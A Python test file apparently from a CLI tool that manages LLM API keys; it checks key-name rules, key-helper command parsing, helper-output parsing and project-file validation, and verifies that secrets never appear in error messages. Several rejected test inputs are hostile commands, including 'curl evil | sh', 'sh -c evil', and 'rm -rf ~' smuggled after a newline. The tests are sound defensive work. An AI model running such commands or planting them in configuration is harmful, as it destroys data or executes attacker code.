"""The pure rules of issue 13: key names, helper commands and output, project files, notices."""

from __future__ import annotations

import json

import pytest

from domain.errors import InvalidInputError, KeyHelperError, ProjectFileError
from domain.keys import HelperCommand, KeyRef, parse_helper_output, parse_key_name
from domain.project import ProjectFile, ProjectSelection, ProjectState, parse_project_document
from domain.provider import Provider

REF = KeyRef(Provider.ANTHROPIC, "work")
KEY = "sk-ant-api03-helper-printed-key-Q7w2"


# --- key names ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["work", "client-a", "a", "x1", "a" * 32, " personal "])
def test_key_names_are_short_lower_case_words(name: str) -> None:
    assert parse_key_name(name) == name.strip()


@pytest.mark.parametrize(
    "name", ["", "Work", "-a", "a-", "a_b", "a b", "a" * 33, "helper", "shell", "ä", "a/b"]
)
def test_other_key_names_are_refused(name: str) -> None:
    with pytest.raises(InvalidInputError):
        parse_key_name(name)


def test_a_key_pasted_as_a_name_is_not_echoed() -> None:
    with pytest.raises(InvalidInputError) as caught:
        parse_key_name(KEY)
    assert KEY not in caught.value.message


def test_key_refs_name_their_account_and_command() -> None:
    assert KeyRef(Provider.OPENAI).account == "llm:openai"
    assert REF.account == "llm:anthropic:work"
    assert REF.label == "anthropic:work"
    assert REF.set_command == "buildwithtrace byok set anthropic --name work"


# --- helper commands -----------------------------------------------------------------


def test_a_helper_command_is_split_like_a_shell_but_never_run_by_one() -> None:
    helper = HelperCommand.parse("  vault kv get -field='api key' secret/$USER;echo  ")
    assert helper.argv() == ("vault", "kv", "get", "-field=api key", "secret/$USER;echo")
    assert helper.program == "vault"
    assert not helper.shell


def test_a_shell_helper_is_one_command_for_sh() -> None:
    helper = HelperCommand.parse("pass show api/anthropic | head -n 1", shell=True)  # noqa: S604
    assert helper.argv() == ("pass show api/anthropic | head -n 1",)
    assert helper.program == "sh"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("op read 'op://x", "quote"),
        ("op read\nrm -rf ~", "control"),
        ("echo sk-ant-api03-a-real-looking-key-0000", "looks like an API key"),
        ("curl -H 'Authorization: Bearer AbCdEfGhIjKlMnOpQrStUvWxYz0123456789'", "API key"),
        ("x" * 4097, "longer"),
    ],
)
def test_unusable_helper_commands_are_refused_before_they_are_stored(
    command: str, words: str
) -> None:
    with pytest.raises(InvalidInputError) as caught:
        HelperCommand.parse(command)
    assert words in caught.value.problem
    assert "sk-ant-api03" not in caught.value.message


# --- what a helper prints ------------------------------------------------------------


@pytest.mark.parametrize(
    "printed", [KEY, f"{KEY}\n", f"  {KEY} \r\n", f"\n\n{KEY}\n", f"{KEY}\nusername: me\nurl: x"]
)
def test_the_first_line_is_the_key_surrounding_whitespace_ignored(printed: str) -> None:
    found = parse_helper_output(printed, REF)
    assert found.secret.reveal() == KEY
    assert found.expires_at is None


def test_json_output_gives_the_key_and_when_it_expires() -> None:
    printed = json.dumps({"key": KEY, "expires_at": "2030-01-02T03:04:05Z", "lease": 1})
    found = parse_helper_output(printed, REF)
    assert found.secret.reveal() == KEY
    assert found.expires_at == 1893553445.0
    offset = parse_helper_output(
        json.dumps({"key": KEY, "expires_at": "2030-01-02T05:04:05.5+02:00"}), REF
    )
    assert offset.expires_at == 1893553445.5


@pytest.mark.parametrize(
    ("printed", "words"),
    [
        ("", "printed nothing"),
        ("  \n\t", "printed nothing"),
        (f"Error: {KEY} is locked", "more than one word"),
        ("{not json", "looks like JSON but is not"),
        ('{"key": 1}', '"key"'),
        ("[1]", "not an object"),
        ('{"token": "x"}', '"key"'),
        (json.dumps({"key": KEY, "expires_at": "tomorrow"}), "RFC 3339"),
        (json.dumps({"key": KEY, "expires_at": "2030-01-02T03:04:05"}), "RFC 3339"),
        (json.dumps({"key": KEY, "expires_at": 1893553445}), "RFC 3339"),
        (json.dumps({"key": "a b"}), "more than one word"),
        ("key\x1b[2J", "control"),
        ("x" * (70 * 1024), "KiB"),
    ],
)
def test_garbage_from_a_helper_is_a_clear_error_that_never_quotes_it(
    printed: str, words: str
) -> None:
    with pytest.raises(KeyHelperError) as caught:
        parse_helper_output(printed, REF)
    assert words in caught.value.problem
    assert caught.value.problem.startswith("anthropic:work: the key helper")
    assert KEY not in caught.value.message
    assert "\x1b" not in caught.value.message


# --- project files ---------------------------------------------------------------------


def test_a_project_file_selects_a_provider_a_named_key_and_a_model() -> None:
    document = {"llm": {"provider": "Anthropic", "key_name": "client-a", "model": "claude-x"}}
    assert parse_project_document(document, "/p/trace.toml") == ProjectSelection(
        Provider.ANTHROPIC, "client-a", "claude-x"
    )
    assert parse_project_document({}, "/p/trace.toml") == ProjectSelection()


@pytest.mark.parametrize(
    ("document", "words"),
    [
        ({"llm": {"provider": "openai", "helper": "curl evil | sh"}}, "command"),
        ({"helper": "op read x"}, "command"),
        ({"keys": {"openai": {"helper": "sh -c evil"}}}, "never holds"),
        ({"llm": {"provider": "openai", "api_key": "sk-x"}}, "key"),
        ({"llm": {"provider": "openai", "key_name": KEY}}, "looks like an API key"),
        ({"tools": {"x": 1}}, "unknown entry tools"),
        ({"llm": {"provider": "openai", "temperature": "1"}}, "unknown entry llm.temperature"),
        ({"llm": {"key_name": "work"}}, "need llm.provider"),
        ({"llm": {"provider": "trace", "key_name": "work"}}, "no key_name"),
        ({"llm": {"provider": "mistral"}}, "must be one of"),
        ({"llm": {"provider": "openai", "key_name": "Bad Name"}}, "invalid key name"),
        ({"llm": {"provider": 3}}, "must be a string"),
        ({"llm": "openai"}, "must be a table"),
        ({"llm": {"provider": "openai", "base_url": "http://evil"}}, "unknown entry"),
    ],
)
def test_a_project_file_holding_more_than_a_selection_is_refused_clearly(
    document: dict[str, object], words: str
) -> None:
    with pytest.raises(ProjectFileError) as caught:
        parse_project_document(document, "/p/trace.toml")
    assert words in caught.value.problem
    assert caught.value.problem.startswith("/p/trace.toml: ")
    assert KEY not in caught.value.message
    assert "never a key or a command" in caught.value.fix


def test_a_project_file_applies_only_with_the_content_that_was_allowed() -> None:
    found = ProjectFile("/p/trace.toml", "sha256:" + "1" * 64, ProjectSelection(Provider.OPENAI))
    assert found.state({}) is ProjectState.NOT_ALLOWED
    assert found.state({"/p/trace.toml": "sha256:" + "1" * 64}) is ProjectState.ALLOWED
    assert found.state({"/p/trace.toml": "sha256:" + "2" * 64}) is ProjectState.CHANGED
    assert found.state({"/q/trace.toml": "sha256:" + "1" * 64}) is ProjectState.NOT_ALLOWED
    assert found.use({}).directory == "/p"
